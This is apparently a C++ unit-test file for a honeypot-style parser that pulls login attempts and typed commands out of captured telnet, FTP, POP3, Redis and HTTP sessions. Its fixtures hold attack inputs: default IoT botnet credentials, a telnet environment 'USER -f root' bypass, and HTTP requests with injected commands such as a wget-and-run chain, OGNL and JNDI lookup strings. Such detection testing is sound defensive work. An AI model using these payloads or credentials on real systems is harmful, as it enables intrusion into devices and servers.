#include "payload/typed.hpp"

#include <gtest/gtest.h>

#include "payload/telnet_text.hpp"

namespace nightjar {
namespace {

using namespace std::string_literals;
using Lines = std::vector<std::string>;

/// A conversation: words of the client, words of the server ("<" before them), in their order.
Conversation talk(const std::vector<std::string>& words, std::uint16_t port = 23) {
  Conversation conversation;
  conversation.port = port;
  for (const std::string& word : words) {
    const bool server = word.starts_with('<');
    const std::string bytes = word.substr(server ? 1 : 0);
    (server ? conversation.server : conversation.client) += bytes;
    conversation.turns.push_back({!server, static_cast<std::uint32_t>(bytes.size())});
  }
  return conversation;
}

/// "user/password yes" of each attempt.
Lines logins(const Typed& typed) {
  Lines lines;
  for (const LoginAttempt& login : typed.logins) lines.push_back(login.user + "/" + login.password + (login.accepted ? " yes" : " no"));
  return lines;
}
Lines logins(const std::vector<std::string>& words, std::uint16_t port = 23) { return logins(read_typed(talk(words, port))); }
Lines commands(const std::vector<std::string>& words, std::uint16_t port = 23) { return read_typed(talk(words, port)).commands; }

TEST(Typed, PairsPromptsWithAnswers) {
  const std::vector<std::string> words = {"<\xff\xfd\x1f", "\xff\xfb\x1f", "<\r\nlogin: ", "root\r\n",          "<root\r\nPassword: ",
                                          "xc3511\r\n",    "<\r\n\r\n# ",  "ls -l\r\n",    "<ls -l\r\nx\r\n# ", "exit\r\n"};
  EXPECT_EQ(logins(words), Lines{"root/xc3511 yes"});
  EXPECT_EQ(commands(words), (Lines{"ls -l", "exit"}));
}

TEST(Typed, WhatTheServerSaysNextDecidesWhetherItWasAccepted) {
  const auto after = [](const std::string& answer) {
    std::vector<std::string> words = {"<login: ", "a\r\n", "<Password: ", "b\r\n"};
    if (!answer.empty()) words.push_back("<" + answer);
    return logins(words).at(0);
  };
  EXPECT_EQ(after("\r\n$ "), "a/b yes");
  EXPECT_EQ(after("\r\nLast login: today\r\nhost> "), "a/b yes");
  EXPECT_EQ(after("\r\n\x1b[1m[root@host ~]#\x1b[0m "), "a/b yes");
  EXPECT_EQ(after("\r\nLogin incorrect\r\n"), "a/b no");
  EXPECT_EQ(after("\r\nLogin incorrect\r\nlogin: "), "a/b no");
  EXPECT_EQ(after("\r\nlogin: "), "a/b no");
  EXPECT_EQ(after("\r\nwelcome\r\n"), "a/b no");
  EXPECT_EQ(after(""), "a/b no");
}

TEST(Typed, TriesAfterEachOther) {
  const std::vector<std::string> words = {
      "<login: ", "a\r\n", "<Password: ", "1\r\n", "<\r\nLogin incorrect\r\nlogin: ", "b\r\n", "<Password: ", "\r\n", "<\r\n# ", "id\r\n"};
  EXPECT_EQ(logins(words), (Lines{"a/1 no", "b/ yes"}));
  EXPECT_EQ(commands(words), Lines{"id"});
}

TEST(Typed, LinesMayEndInAnyWay) {
  for (const std::string& end : {"\r\n"s, "\n"s, "\r"s, "\r\0"s}) {
    const std::vector<std::string> words = {"<login: ", "root" + end, "<Password: ", "pw" + end, "<# ", "ls" + end + "id" + end};
    EXPECT_EQ(logins(words), Lines{"root/pw yes"});
    EXPECT_EQ(commands(words), (Lines{"ls", "id"}));
  }
}

TEST(Typed, AWordMayComeACharacterAtATime) {
  std::vector<std::string> words = {"<login: "};
  for (const char c : "admin"s) words.insert(words.end(), {std::string(1, c), "<" + std::string(1, c)});
  words.insert(words.end(), {"\r", "<\r\n", "\n", "<Password: "});
  for (const char c : "xyz\b1"s) words.push_back(std::string(1, c));
  words.insert(words.end(), {"\r", std::string(1, '\0'), "<\r\n$ "});
  for (const char c : "pwd"s) words.insert(words.end(), {std::string(1, c), "<" + std::string(1, c)});
  words.insert(words.end(), {"\r\n", "<\r\n/\r\n$ "});
  EXPECT_EQ(logins(words), Lines{"admin/xy1 yes"});
  EXPECT_EQ(commands(words), Lines{"pwd"});
}

TEST(Typed, TheClientMayBeAheadOfThePrompts) {
  const std::string ahead = "root\r\nxc3511\r\nenable\r\nsh\r\n";
  const Lines expected{"enable", "sh"};
  // Prompts come one by one, all at once with echo, all at once without.
  for (const std::vector<std::string>& words :
       {std::vector<std::string>{ahead, "<login: ", "<root\r\nPassword: ", "<\r\n# ", "<enable\r\n# "},
        {ahead, "<login: root\r\nPassword: \r\nwelcome\r\n# enable\r\nx\r\n# sh\r\n# "},
        {ahead, "<login: \r\nPassword: \r\n# "}}) {
    EXPECT_EQ(logins(words), Lines{"root/xc3511 yes"});
    EXPECT_EQ(commands(words), expected);
  }
  EXPECT_EQ(logins({"\r\n", "<login: ", "root\r\n", "<Password: ", "a\r\n", "<# "}), Lines{"root/a yes"});
  EXPECT_EQ(logins({"root\r\na\r\n", "<log", "<in: ", "<Pass", "<word: ", "<incorrect"}), Lines{"root/a no"});
}

// While lines wait after a password each line of the server is new; the refusal may come in parts.
TEST(Typed, ARefusalIsHeardWhereverItStandsInWhatTheServerSays) {
  for (const std::string& refusal : {"<Login incorrect\r\n"s, "<Access denied\r\n"s}) {
    for (std::size_t cut = 1; cut < refusal.size(); ++cut) {
      const std::vector<std::string> words = {"<login: ",
                                              "a\r\n",
                                              "<Password: ",
                                              "b\r\n",
                                              "id\r\n",
                                              "<\r\nwelcome\r\n" + refusal.substr(1, cut - 1),
                                              "<" + refusal.substr(cut),
                                              "<bye\r\nbye\r\n"};
      EXPECT_EQ(commands(words), Lines{}) << cut;
      EXPECT_EQ(logins(words), Lines{"a/b no"}) << cut;
    }
  }
}

TEST(Typed, AServerWithoutAWordAcceptsNothing) {
  EXPECT_EQ(logins({"root\r\nvizxv\r\nenable\r\n"}), Lines{"root/vizxv no"});
  EXPECT_EQ(commands({"root\r\nvizxv\r\nenable\r\nsh\r\n"}), (Lines{"enable", "sh"}));
  EXPECT_EQ(logins({"root\r\nvizxv\r\nenable\r\n"}, 4'000), Lines{});
  EXPECT_EQ(logins({"\xff\xfb\x1froot\r\nvizxv\r\n"}, 4'000), Lines{"root/vizxv no"});
  EXPECT_EQ(logins({"root\r\n"}), Lines{});
}

TEST(Typed, PromptsOfManyKinds) {
  EXPECT_EQ(logins({"<Username: ", "a\r\n", "<Password: ", "b\r\n", "<router>"}), Lines{"a/b yes"});
  EXPECT_EQ(logins({"<User:", "a\r\n", "<Pass:", "b\r\n", "<router>"}), Lines{"a/b yes"});
  EXPECT_EQ(logins({"<Please enter your name\r\n: ", "a\r\n", "<: ", "b\r\n", "<$ "}), Lines{"a/b yes"});
  EXPECT_EQ(logins({"<Password: ", "b\r\n", "<> "}), Lines{"/b yes"});
  EXPECT_EQ(logins({"<login: ", "a\r\n", "<# ", "id\r\n"}), Lines{"a/ yes"});
  EXPECT_EQ(commands({"<# ", "id\r\n", "<uid=0\r\n# ", "\r\n", "<# ", "w\r\n"}), (Lines{"id", "w"}));
  EXPECT_EQ(logins({"<login:\r\n", "a\r\n", "<password:\r\n", "b\r\n", "<$ "}), Lines{"a/b yes"});
}

TEST(Typed, NegotiationIsNoText) {
  // DO, WILL, a subnegotiation with an escaped 255 inside, NOP; in pieces.
  TelnetText side;
  std::string text;
  for (const char c : "a\xff\xfd\x1f\xff\xfa\x1f\x00\xff\xff\x00\x18\xff\xf0"s + "b\xff\xf1" + "c\xff\xff") side.read({&c, 1}, text);
  EXPECT_EQ(text, "abc\xff");
  EXPECT_TRUE(side.negotiated());
}

TEST(Typed, AUserInTheEnvironmentThatIsAnOptionIsTold) {
  const std::string sent = "\xff\xfa\x27\x00\x00USER\x01-f root\xff\xf0"s;
  EXPECT_TRUE(read_typed(talk({"<\xff\xfd\x27", sent, "<# ", "id\r\n"})).environment_login);
  EXPECT_FALSE(read_typed(talk({"<\xff\xfd\x27", "\xff\xfa\x27\x00\x00USER\x01root\x03X\x01-f\xff\xf0"s, "<# "})).environment_login);
}

TEST(Typed, LoginsOfFtpAndPop3) {
  EXPECT_EQ(logins({"<220 hi\r\n", "USER a\r\n", "<331 go on\r\n", "PASS b c\r\n", "<230 in\r\n"}, 21), Lines{"a/b c yes"});
  EXPECT_EQ(logins({"<220-hi\r\n220 hi\r\n", "USER a\r\nPASS b\r\n", "<331 x\r\n530 no\r\n"}, 21), Lines{"a/b no"});
  EXPECT_EQ(logins({"<+OK hi\r\n", "USER a\r\n", "<+OK\r\n", "PASS b\r\n", "<-ERR no\r\n", "USER a\r\nPASS c\r\n", "<+OK\r\n+OK\r\n"}, 110),
            (Lines{"a/b no", "a/c yes"}));
  EXPECT_EQ(logins({"USER anonymous\r\n"}, 21), Lines{});
}

TEST(Typed, LoginsOfRedis) {
  EXPECT_EQ(logins({"*2\r\n$4\r\nAUTH\r\n$3\r\nfoo\r\n", "<+OK\r\n"}, 6379), Lines{"/foo yes"});
  EXPECT_EQ(logins({"INFO\r\nAUTH x\r\n"}, 6379), Lines{});
  EXPECT_EQ(logins({"AUTH u p\r\n", "<-WRONGPASS\r\n"}, 6379), Lines{"u/p no"});
}

TEST(Typed, LoginsOfHttp) {
  const std::string request = "GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46cDp3\r\n\r\n";
  EXPECT_EQ(logins({request, "<HTTP/1.1 200 OK\r\n\r\n"}, 80), Lines{"admin/p:w yes"});
  EXPECT_EQ(logins({request, "<HTTP/1.1 401 No\r\n\r\n", request, "<HTTP/1.1 302 x\r\n\r\n"}, 80),
            (Lines{"admin/p:w no", "admin/p:w yes"}));
  EXPECT_EQ(logins({request}, 80), Lines{"admin/p:w no"});
  EXPECT_EQ(logins({"GET / HTTP/1.1\r\nAuthorization: Basic !\r\n\r\n"}, 80), Lines{});
}

TEST(Typed, CommandsThatRequestsHide) {
  EXPECT_EQ(commands({"GET /x?a=$(wget+http://h/a%3B+sh+a)&b=`id` HTTP/1.1\r\n\r\n"}, 80), (Lines{"wget http://h/a; sh a", "id"}));
  EXPECT_EQ(commands({"GET /shell?cd+/tmp;ls HTTP/1.1\r\n\r\n"}, 80), Lines{"cd /tmp;ls"});
  EXPECT_EQ(commands({"POST /x HTTP/1.1\r\nContent-Type: %{(#cmd='id').(#x)}\r\n\r\n"}, 80), Lines{"id"});
  EXPECT_EQ(commands({"GET / HTTP/1.1\r\nX: ${jndi:ldap://h/a}\r\n\r\n"}, 80), Lines{});
}

TEST(Typed, NothingIsInventedInOtherProtocols) {
  EXPECT_EQ(logins({"GET /login HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\n\r\n<title>Login</title>Password: ", "a\r\nb\r\n"}, 23), Lines{});
  EXPECT_EQ(logins({"<SSH-2.0-x\r\n", "SSH-2.0-y\r\n", "<login: ", "a\r\nb\r\n"}, 22), Lines{});
  EXPECT_EQ(logins({"\x16\x03\x01\r\n", "<login: ", "a\r\nb\r\n"}, 443), Lines{});
  EXPECT_EQ(logins({"<\x01\x02\x80:", "a\r\n", "<\x03:", "b\r\n", "<#"}, 4'444), Lines{});
  EXPECT_EQ(logins({"<login: ", "\x01\x02\x04\r\n", "<Password: ", "b\r\n", "<#"}, 4'444), Lines{});
  EXPECT_EQ(logins({"<hello\r\nplease login first\r\n", "a\r\n", "<what?\r\n", "b\r\n"}, 4'444), Lines{});
}

}  // namespace
}  // namespace nightjar
